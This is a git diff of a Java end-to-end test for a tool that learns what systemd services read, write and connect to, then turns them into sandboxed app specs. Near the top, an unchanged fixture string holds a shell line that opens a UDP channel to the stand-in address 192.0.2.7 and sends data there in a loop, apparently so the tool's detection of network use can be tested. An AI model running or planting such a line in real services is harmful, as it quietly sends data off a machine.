@@ -1,6 +1,7 @@
 package dev.sandbar.e2e;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 
 import dev.sandbar.vdev.CommandResult;
 import dev.sandbar.vdev.VirtualDevice;
@@ -18,6 +19,8 @@ class LearnedFilesTest {
         echo "$load" >/var/lib/gauge/load; sleep 0.2; done'
       NoNewPrivileges=yes
       """;
+
+  private static final String WAITS = "1000";
 
   /** The same, and on this day it sends what it reads to somebody. */
   private static final String EXTRA = "exec 4<>/dev/udp/192.0.2.7/514; while :; do echo x >&4;";
@@ -47,6 +50,8 @@ class LearnedFilesTest {
     var builder = ChildJvm.shown(VirtualDevice.named("learning"));
     try (VirtualDevice device = builder.boot()) {
       learnsWhatAServiceUses(device);
+      learnsWhatStaysOfAWrapper(device);
+      writesAFolder(device);
       combinesWhatTwoDevicesSaw(device);
       becomesAnApp(device);
     }
@@ -64,17 +69,94 @@ class LearnedFilesTest {
     assertThat(joined(learned.stderr()))
         .contains(
             "note: systemInfo: reads /proc/loadavg",
-            "note: state: writes to /var/lib/gauge/load",
-            "an app has directories of its own",
+            "note: state: writes to /var/lib/sandbar-gauge/load",
+            "note: keeps what it has in /var/lib/gauge: the spec names the app's own places",
             "saved what was seen on pump-1 in /root/1.json");
     assertThat(learned.stdout())
-        .contains("name: gauge", "systemInfo: true", "state: true")
+        .contains("name: gauge", "systemInfo: true", "state: true", "/var/lib/sandbar-gauge/load")
         .doesNotContain("internet", "jit", "unixSockets", "mode:", "NoNewPrivileges");
     assertThat(device.exec("stat", "-c", "%a %U", "/root/1.json").stdout().strip())
         .isEqualTo("600 root");
     assertThat(bad(device, "learn gauge --save /root/1.json"))
         .contains("/root/1.json exists already, and is not overwritten");
     device.write("/root/gauge.yaml", learned.stdout());
+  }
+
+  /**
+   * A service that systemd listens for, whose unit names a script and variables of a file: the
+   * script asks for names, as every program does, and then becomes the program itself.
+   */
+  private static void learnsWhatStaysOfAWrapper(VirtualDevice device) {
+    device.write("/etc/systemd/system/bell.socket", "[Socket]\nListenStream=8088\n");
+    device.write(
+        "/etc/systemd/system/bell.service",
+        """
+        [Service]
+        EnvironmentFile=/etc/default/bell
+        ExecStart=/usr/local/bin/bell $OPTIONS
+        TasksMax=4000
+        """);
+    device.write("/etc/default/bell", "OPTIONS=%s\n".formatted(WAITS));
+    device.write(
+        "/usr/local/bin/bell",
+        "#!/bin/sh\ngetent ahosts localhost >/dev/null\necho $$ >/run/bell.pid\nexec sleep \"$@\"\n");
+    device.exec("chmod", "755", "/usr/local/bin/bell").orThrow();
+    device.exec("systemctl", "daemon-reload").orThrow();
+    device.exec("systemctl", "start", "bell.socket", "bell").orThrow();
+    CommandResult learned = good(device, "learn bell --restart --for 2s");
+    assertThat(learned.stdout())
+        .contains("via: Socket", "port: 8088", "/usr/bin/sleep", WAITS)
+        .doesNotContain("internet", "localNetwork", "networkStatus", "/usr/local/bin/bell");
+    assertThat(joined(learned.stderr()))
+        .contains(
+            "note: what has to change before it runs:",
+            "writes to /run/bell.pid: an app has nothing to write to in /run",
+            "ExecStart=/usr/local/bin/bell $OPTIONS: the program that stayed is /usr/bin/sleep");
+    device.exec("systemctl", "stop", "bell.socket", "bell").orThrow();
+  }
+
+  /**
+   * Of a service whose configuration says where it keeps what it has: the folder is a repository.
+   */
+  private static void writesAFolder(VirtualDevice device) {
+    device.exec("mkdir", "-p", "/etc/tank", "/var/lib/tank/levels").orThrow();
+    device.write("/etc/tank/tank.conf", "dir=/var/lib/tank/levels\n");
+    device.write("/etc/tank/key", "secret\n");
+    device.exec("chmod", "600", "/etc/tank/key").orThrow();
+    device.write(
+        "/usr/local/bin/tank",
+        "#!/bin/bash\nread -r key </etc/tank/key\n. /etc/tank/tank.conf\n"
+            + "while :; do echo 1 >\"$dir/now\"; sleep 0.2; done\n");
+    device.exec("chmod", "755", "/usr/local/bin/tank").orThrow();
+    device.write("/etc/systemd/system/tank.service", "[Service]\nExecStart=/usr/local/bin/tank\n");
+    device.exec("systemctl", "daemon-reload").orThrow();
+    device.exec("systemctl", "start", "tank").orThrow();
+    CommandResult learned = good(device, "learn tank --restart --for 2s --write /root/apps");
+    assertThat(learned.stdout()).isEmpty();
+    assertThat(joined(learned.stderr()))
+        .contains(
+            "reads /etc/tank/key, which not everybody may read",
+            "wrote /root/apps/tank.yaml and 1 file for it")
+        .doesNotContain("writes to /var/lib/tank");
+    assertThat(device.exec("cat", "/root/apps/tank/etc/tank/tank.conf").stdout())
+        .isEqualTo("dir=/var/lib/sandbar-tank/levels\n");
+    assertThat(device.exec("cat", "/root/apps/tank.yaml").stdout())
+        .contains("file: tank/etc/tank/tank.conf", "/var/lib/sandbar-tank/levels");
+    good(device, "validate /root/apps");
+    assertThat(bad(device, "learn tank --for 1s --write /root/apps"))
+        .contains("/root/apps/tank.yaml exists already");
+    device.exec("systemctl", "stop", "tank").orThrow();
+    // Without the key the rest of it runs.
+    device.exec("chmod", "644", "/etc/tank/key").orThrow();
+    assertThat(good(device, "apply /root/apps --yes").stdout()).contains("done  tank");
+    await()
+        .atMost(Duration.ofMinutes(2))
+        .until(
+            () ->
+                device
+                    .exec("cat", "/var/lib/private/sandbar-tank/levels/now")
+                    .stdout()
+                    .equals("1\n"));
   }
 
   private static void combinesWhatTwoDevicesSaw(VirtualDevice device) {
